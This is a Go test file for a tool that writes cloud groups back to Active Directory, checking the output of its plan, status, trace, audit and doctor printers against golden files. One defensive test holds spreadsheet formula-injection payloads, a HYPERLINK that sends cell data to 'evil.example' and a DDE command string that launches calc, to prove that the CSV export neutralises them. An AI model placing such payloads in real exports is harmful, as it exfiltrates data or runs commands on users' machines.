package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/groupwriteback/groupwriteback/internal/audit"
	"github.com/groupwriteback/groupwriteback/internal/cloud"
	"github.com/groupwriteback/groupwriteback/internal/doctor"
	"github.com/groupwriteback/groupwriteback/internal/engine"
	"github.com/groupwriteback/groupwriteback/internal/ha"
	"github.com/groupwriteback/groupwriteback/internal/notify"
	"github.com/groupwriteback/groupwriteback/internal/policy"
	"github.com/groupwriteback/groupwriteback/internal/reconcile"
	"github.com/groupwriteback/groupwriteback/internal/state"
)

// heldBackResult is a plan whose deletes the threshold holds back, with a
// group written in place and a field written cleaned.
func heldBackResult() *engine.Result {
	return &engine.Result{Mode: "delta", Counts: engine.Counts{Unchanged: 3},
		Plan: reconcile.Plan{
			Ops: []reconcile.Op{{Action: reconcile.AddMembers, CloudID: "g-inplace", DN: "CN=Finance,OU=Groups,DC=contoso,DC=com",
				Members: []string{"CN=Ann,OU=Users,DC=contoso,DC=com"}, SID: "S-1-5-21-1-2-3-2201"}},
			Problems: []reconcile.Problem{{Err: reconcile.ErrThresholdExceeded,
				Message: "this run would delete or quarantine 2 groups, more than the threshold of 1: it deletes and quarantines none of them; release them one by one with `groupwriteback release GROUP… --reason …`, or run sync --allow-deletes 2 to let them all through"}},
			HeldBack: []reconcile.Op{
				{Action: reconcile.Delete, CloudID: "g1", DN: "CN=Team 1_000000000001,OU=Cloud,DC=contoso,DC=com", Reason: "the cloud group no longer exists"},
				{Action: reconcile.Delete, CloudID: "g2", DN: "CN=Team 2_000000000002,OU=Cloud,DC=contoso,DC=com", Reason: "the cloud group no longer exists"},
			}},
		Notes: []policy.Problem{{CloudID: "g3", Name: "Sales", Field: "mail", Message: `"not a mail" has no @: the group is written without mail attributes`}},
	}
}

// TestPlanPrinter: the text plan names every group the threshold holds
// back, and the command that lets them through (golden file).
func TestPlanPrinter(t *testing.T) {
	var b bytes.Buffer
	if err := printPlan(&b, heldBackResult()); err != nil {
		t.Fatal(err)
	}
	golden(t, "plan-held-back.txt", b.String())
}

// TestSyncPrinter: the text sync report says the same (golden file).
func TestSyncPrinter(t *testing.T) {
	var b bytes.Buffer
	printSync(&b, heldBackResult())
	golden(t, "sync-held-back.txt", b.String())
}

// at is a fixed time for the printers' golden files.
var at = time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)

// TestStatusPrinter: status names every group not in step, a group whose
// cloud group is gone by its AD copy (golden files).
func TestStatusPrinter(t *testing.T) {
	cases := []struct {
		golden string
		view   statusView
	}{
		{"status-not-in-step.txt", statusView{
			Enablement:    state.Enablement{Enabled: true, Changed: at.Add(-48 * time.Hour)},
			TenantDefault: false, TenantDefaultKnown: true,
			Runs: []state.Run{
				{ID: 7, Started: at, Mode: "delta", Outcome: "partial", Summary: json.RawMessage(`{"created":1,"failed":1}`)},
				{ID: 6, Started: at.Add(-30 * time.Minute), Mode: "full", Outcome: "ok", Summary: json.RawMessage(`{"unchanged":12}`)},
			},
			NotInStep: []state.GroupStatus{
				{CloudID: "g1", Name: "Team 1_000000000001", DN: "CN=Team 1_000000000001,OU=Cloud,DC=contoso,DC=com", State: state.Failed,
					Message: "delete held back by the delete threshold (the cloud group no longer exists)"},
				{CloudID: "g4", Name: "Sales", State: state.NotWritable, Message: `mailNickname: "sales team" has a space`},
			},
		}},
		{"status-never-enabled.txt", statusView{}},
		{"status-ha.txt", statusView{
			Enablement: state.Enablement{Enabled: true, Changed: at.Add(-48 * time.Hour)},
			Runs:       []state.Run{{ID: 9, Started: at, Mode: "delta", Outcome: "ok", Summary: json.RawMessage(`{"updated":6}`)}},
			HA: &ha.View{Active: "gwb2", ActiveSince: at.Add(-time.Minute), Token: 4,
				LastTakeover: &state.Takeover{Token: 4, Holder: "gwb2", Previous: "gwb1", At: at.Add(-time.Minute)},
				Instances: []state.Instance{
					{ID: "gwb1/0a1b2c3d", Name: "gwb1", Host: "host1", PID: 812, Version: "v1.4.0", Role: "standby", Started: at.Add(-time.Hour), Seen: at,
						Detail: "standing by; last plan 2026-11-28T09:29:50Z: 0 operations"},
					{ID: "gwb2/4e5f6a7b", Name: "gwb2", Host: "host2", PID: 977, Version: "v1.4.0", Role: "active", Started: at.Add(-2 * time.Hour), Seen: at},
				}},
		}},
		{"status-ha-none-active.txt", statusView{Enablement: state.Enablement{Enabled: true, Changed: at}, HA: &ha.View{}}},
		{"status-notifications.txt", statusView{
			Enablement: state.Enablement{Enabled: true, Changed: at.Add(-48 * time.Hour)},
			Runs: []state.Run{
				{ID: 12, Started: at.Add(-time.Hour), Finished: at, Mode: "delta", Outcome: "ok", Quiet: 360, Summary: json.RawMessage(`{"actor":"service"}`)},
				{ID: 11, Started: at.Add(-61 * time.Minute), Finished: at.Add(-61 * time.Minute), Mode: "delta", Outcome: "ok", Summary: json.RawMessage(`{"updated":1}`)},
				{ID: 10, Started: at.Add(-62 * time.Minute), Finished: at.Add(-62 * time.Minute), Mode: "delta", Outcome: "ok", Quiet: 1, Summary: json.RawMessage(`{}`)},
			},
			Notifications: &notifyStatus{Instance: "gwb1", URL: "https://wb.contoso.com/graph/notifications",
				Held: []notify.Held{{Resource: "groups", ID: "7f105c7d-2dc5-4530-97cd-4e7ae6534c07", Expires: at.Add(28 * 24 * time.Hour)},
					{Resource: "users", ID: "0fc0d6db-0073-42e5-a186-853da75fb308", Expires: at.Add(28 * 24 * time.Hour)}},
				LastCheck: at.Add(-5 * time.Minute), Last: at.Add(-time.Minute)},
		}},
	}
	for _, c := range cases {
		var b bytes.Buffer
		printStatus(&b, c.view, time.UTC)
		golden(t, c.golden, b.String())
		b.Reset()
		if err := writeJSON(&b, c.view.json()); err != nil {
			t.Fatal(err)
		}
		golden(t, strings.TrimSuffix(c.golden, ".txt")+".json", b.String())
	}
}

// TestShowPrinter: show prints both sides of a group, its reasons for
// members not written in a stable order (golden files).
func TestShowPrinter(t *testing.T) {
	enabled := true
	written := &engine.Explanation{
		CloudID:  "2c1a0b02-0004",
		Decision: "written back as a universal distribution group",
		Cloud: &cloud.Group{DisplayName: "Finance approvers", Mail: "finance-approvers@contoso.com", MailEnabled: true, GroupTypes: []string{"Unified"},
			Writeback: cloud.WritebackConfiguration{IsEnabled: &enabled, OnPremisesGroupType: "universalDistributionGroup"},
			Members:   cloud.RefsFrom(map[string]cloud.ObjectType{"u1": cloud.TypeUser, "u2": cloud.TypeUser, "d1": cloud.TypeDevice})},
		DesiredDN: "CN=Finance approvers_2c1a0b020004,OU=Cloud,DC=contoso,DC=com",
		Placement: "the next cycle renames or moves it to CN=Finance approvers_2c1a0b020004,OU=Cloud,DC=contoso,DC=com",
		AD: &reconcile.ADGroup{DN: "CN=Finance_2c1a0b020004,OU=Cloud,DC=contoso,DC=com", GUID: "6f1c0a51-2b52-4f57-9c77-0d8f55d1d3a1",
			Attrs:   map[string][]string{"mail": {"finance-approvers@contoso.com"}, "groupType": {"8"}, "displayName": {"Finance"}},
			Members: []string{"CN=Ann,OU=Users,DC=contoso,DC=com"}},
		Status: &state.GroupStatus{CloudID: "2c1a0b02-0004", State: state.InStep, Updated: at,
			MembersNotWritten: map[string]int{"cloud_only_user": 1, "unsupported_member_type": 1, "not_found_in_ad": 3}},
		Operations: []state.Operation{
			{RunID: 7, Action: "addMembers", Outcome: "applied", DN: "CN=Finance_2c1a0b020004,OU=Cloud,DC=contoso,DC=com", At: at},
			{RunID: 6, Action: "rename", Outcome: "failed", DN: "CN=Finance_2c1a0b020004,OU=Cloud,DC=contoso,DC=com", Error: "LDAP 53: unwilling to perform", At: at.Add(-30 * time.Minute)},
		},
	}
	gone := &engine.Explanation{CloudID: "9d9d", Decision: "not in the cloud snapshot (deleted in the cloud, or never read)", ADError: "the DC does not answer: dial tcp 10.0.0.4:636: i/o timeout"}
	for name, s := range map[string]*engine.Explanation{"show-written.txt": written, "show-gone.txt": gone} {
		var b bytes.Buffer
		printShown(&b, s, time.UTC)
		golden(t, name, b.String())
		if name == "show-written.txt" {
			// Map order must not leak into the output.
			for range 20 {
				var again bytes.Buffer
				printShown(&again, s, time.UTC)
				if again.String() != b.String() {
					t.Fatalf("show prints differently each time:\n%s\n---\n%s", b.String(), again.String())
				}
			}
		}
	}
}

// TestTracePrinter: a one-group trace says the scope decision, each
// member's lookup and every value written, old and new (golden files).
func TestTracePrinter(t *testing.T) {
	const ou = "OU=Cloud,DC=contoso,DC=com"
	written := &engine.Trace{CloudID: "6a1e0c55-0004-4f0e-9d3b-2c1a0b9f8e7d", Name: "VPN users", Kind: "security", InScope: true,
		Decision: "written back as universalSecurityGroup", Type: "universalSecurityGroup", DN: "CN=VPN users_2c1a0b9f8e7d," + ou,
		ADDN: "CN=VPN users_2c1a0b9f8e7d," + ou,
		Members: []engine.MemberTrace{
			{CloudID: "u1", Type: cloud.TypeUser, Name: "Ann", DN: "CN=Ann,OU=Users,DC=contoso,DC=com", Tried: []engine.KeyTry{
				{Key: reconcile.BySID, Value: "S-1-5-21-1-2-3-1101", Found: "CN=Ann,OU=Users,DC=contoso,DC=com"}}},
			{CloudID: "u2", Type: cloud.TypeUser, Name: "Bob", NotWritten: policy.MemberNotFoundInAD, Tried: []engine.KeyTry{
				{Key: reconcile.BySID, Value: "S-1-5-21-1-2-3-4242"}, {Key: reconcile.ByDN, Value: "CN=Bob,OU=Gone,DC=contoso,DC=com"}}},
			{CloudID: "u3", Type: cloud.TypeUser, Name: "Cloud Only", NotWritten: policy.MemberCloudOnly},
			{CloudID: "g9", Type: cloud.TypeGroup, Name: "Marketing"},
		},
		Operations: []reconcile.Op{
			{Action: reconcile.Update, CloudID: "6a1e0c55-0004-4f0e-9d3b-2c1a0b9f8e7d", DN: "CN=VPN users_2c1a0b9f8e7d," + ou,
				Changes: []reconcile.AttrChange{{Name: "description", Old: []string{"old text"}, New: []string{"new text"}}, {Name: "info", Old: []string{"gone"}}}},
			{Action: reconcile.AddMembers, CloudID: "6a1e0c55-0004-4f0e-9d3b-2c1a0b9f8e7d", DN: "CN=VPN users_2c1a0b9f8e7d," + ou,
				Members: []string{"CN=Ann,OU=Users,DC=contoso,DC=com"}},
		}}
	outOfScope := &engine.Trace{CloudID: "6a1e0c55-0005-4f0e-9d3b-2c1a0b9f8e7d", Name: "Lab admins", Kind: "security",
		Decision: "not written back: writebackConfiguration.isEnabled is not set for this security group", Operations: []reconcile.Op{}}
	for name, tr := range map[string]*engine.Trace{"trace-written.txt": written, "trace-out-of-scope.txt": outOfScope} {
		var b bytes.Buffer
		printTrace(&b, tr)
		golden(t, name, b.String())
	}
}

// TestAuditPrinters: the audit trail for people and as CSV (golden files).
func TestAuditPrinters(t *testing.T) {
	const dn = "CN=VPN users_2c1a0b9f8e7d,OU=Cloud,DC=contoso,DC=com"
	entries := []audit.Entry{
		{Time: at, RunID: 3, CloudID: "g4", Name: "VPN users", Action: "create", DN: dn, Outcome: "applied",
			Changes:      []reconcile.AttrChange{{Name: "displayName", New: []string{"VPN users"}}, {Name: "groupType", New: []string{"-2147483640"}}},
			MembersAdded: []string{"CN=Ann,OU=Users,DC=contoso,DC=com", `CN=Bob\, Jr.,OU=Users,DC=contoso,DC=com`}, Actor: "console:otto@contoso.com",
			Approval: &engine.Approval{By: "console:otto@contoso.com", Reason: "CAB-77, approved", Plan: "0bbeb87626e28a7e", Made: at.Add(-10 * time.Minute)}},
		{Time: at.Add(time.Hour), RunID: 4, CloudID: "g4", Name: "VPN users", Action: "rename", DN: dn,
			NewDN: "CN=VPN_2c1a0b9f8e7d,OU=Cloud,DC=contoso,DC=com", Outcome: "applied"},
		{Time: at.Add(2 * time.Hour), RunID: 5, CloudID: "g4", Name: "VPN users", Action: "remove-members", DN: dn, Outcome: "failed",
			MembersRemoved: []string{"CN=Ann,OU=Users,DC=contoso,DC=com"}, Error: "directory: modify: LDAP result 50 (Insufficient Access Rights)", Actor: "service"},
		{Time: at.Add(3 * time.Hour), RunID: 6, CloudID: "g4", Name: "VPN users", Action: "delete", DN: dn, Outcome: "applied", Actor: "cli:alice", AllowDeletes: 2,
			Release: &state.Release{CloudID: "g4", DN: dn, Action: "delete", By: "cli:bob", Reason: "project ended (CHG-1234)", At: at.Add(150 * time.Minute), Expires: at.Add(26 * time.Hour)}},
	}
	var b bytes.Buffer
	printAudit(&b, entries, time.UTC)
	golden(t, "audit.txt", b.String())
	b.Reset()
	if err := printAuditCSV(&b, entries); err != nil {
		t.Fatal(err)
	}
	golden(t, "audit.csv", b.String())
}

// TestJSONGolden: show and doctor as scripts read them (golden files).
func TestJSONGolden(t *testing.T) {
	x := &engine.Explanation{CloudID: "g4", Cloud: &cloud.Group{ID: "g4", DisplayName: "VPN users", SecurityEnabled: true},
		Decision: "written back as universalSecurityGroup", DesiredDN: "CN=VPN users_2c1a0b9f8e7d,OU=Cloud,DC=contoso,DC=com",
		AD: &reconcile.ADGroup{DN: "CN=VPN users_2c1a0b9f8e7d,OU=Cloud,DC=contoso,DC=com", GUID: "1b4e28ba-2fa1-11d2-883f-0016d3cca427",
			Anchor: "Group_g4", Attrs: map[string][]string{"displayName": {"VPN users"}}, Members: []string{"CN=Ann,OU=Users,DC=contoso,DC=com"}},
		Status:     &state.GroupStatus{CloudID: "g4", Name: "VPN users", State: state.InStep, Updated: at, MembersNotWritten: map[string]int{"cloud_only_user": 1}},
		Operations: []state.Operation{{RunID: 7, CloudID: "g4", Action: "create", DN: "CN=VPN users_2c1a0b9f8e7d,OU=Cloud,DC=contoso,DC=com", Outcome: "applied", At: at}}}
	d := doctorJSON{Version: doctorVersion, Kind: "doctor", OK: false, Checks: []doctor.Check{
		{Name: "graph: token", Status: doctor.Pass, Detail: "signed in"},
		{Name: "ldap: bind account holds no privileged group", Status: doctor.Warn, Detail: `CONTOSO\Administrator is a member of Domain Admins`, Fix: "bind as a plain account"},
		{Name: "ldap: writeback.target_ou exists", Status: doctor.Fail, Detail: "OU=Nowhere does not exist", Fix: "create the OU"}}}
	for name, v := range map[string]any{"show.json": newShowJSON(x), "doctor.json": d} {
		var b bytes.Buffer
		if err := writeJSON(&b, v); err != nil {
			t.Fatal(err)
		}
		golden(t, name, b.String())
	}
}

// A name or description from the tenant that a spreadsheet would read as
// a formula is written as text: its cell begins with a quote (OWASP's CSV
// injection advice), and nothing else of the row changes.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	entries := []audit.Entry{{Time: at, RunID: 1, CloudID: "g1", Action: "update", DN: "CN=x,OU=Cloud,DC=contoso,DC=com", Outcome: "applied",
		Name:    `=HYPERLINK("http://evil.example/?"&A1,"open")`,
		Changes: []reconcile.AttrChange{{Name: "description", New: []string{"+cmd|' /C calc'!A0"}}}}}
	for _, name := range []string{"@SUM(1+1)", "-2+3", "\t=1", "\r=1"} {
		e := entries[0]
		e.Name = name
		entries = append(entries, e)
	}
	var b bytes.Buffer
	if err := printAuditCSV(&b, entries); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: %q would be read as a formula", auditColumns[i], cell)
			}
		}
		if !strings.HasPrefix(row[3], "'") {
			t.Errorf("name %q is not neutralised", row[3])
		}
	}
	if rows[1][5] != "CN=x,OU=Cloud,DC=contoso,DC=com" || rows[1][1] != "1" {
		t.Errorf("other cells changed: %q", rows[1])
	}
}

// The plan warns of a sAMAccountName it changes on a written group, and
// names the groups it adopts and restores (issue 24).
func TestPlanSaysWhatAdminsMustKnow(t *testing.T) {
	const dn = "CN=Finance EMEA_2c1a0b000001,OU=Cloud,DC=contoso,DC=com"
	res := &engine.Result{Mode: "delta", Adopted: []string{"g1"}, Restored: []string{"g2"}, GroupNames: map[string]string{"g3": "Sales"}, Plan: reconcile.Plan{
		NotWritten: map[string][]reconcile.MemberProblem{"g3": {{CloudID: "u9", Code: "cloud_only_user", Reason: "cloud-only user"}}},
		Ops: []reconcile.Op{
			{Action: reconcile.Update, CloudID: "g1", DN: dn, Changes: []reconcile.AttrChange{{Name: "sAMAccountName", Old: []string{"Finance_2c1a0b000001"}, New: []string{"Finance EMEA_2c1a0b000001"}}}},
			{Action: reconcile.Move, CloudID: "g2", DN: "CN=Payroll_2c1a0b000002,OU=Quarantine,DC=contoso,DC=com", NewParent: "OU=Cloud,DC=contoso,DC=com"},
		}}}
	var b bytes.Buffer
	if err := printPlan(&b, res); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`warning: the sAMAccountName of "Finance EMEA_2c1a0b000001" changes from "Finance_2c1a0b000001" to "Finance EMEA_2c1a0b000001"`,
		`adopt: 1 groups this state never wrote`, `"Finance EMEA_2c1a0b000001"` + "\n",
		`restored from quarantine (this tool had moved them there; they come back with their members): "Payroll_2c1a0b000002"`,
		"plan (delta): 0 to create, 2 to change",
		`  g3 "Sales": 1 cloud-only user`, // members not written name the group, not its id alone
	} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("plan lacks %q:\n%s", want, b.String())
		}
	}
}
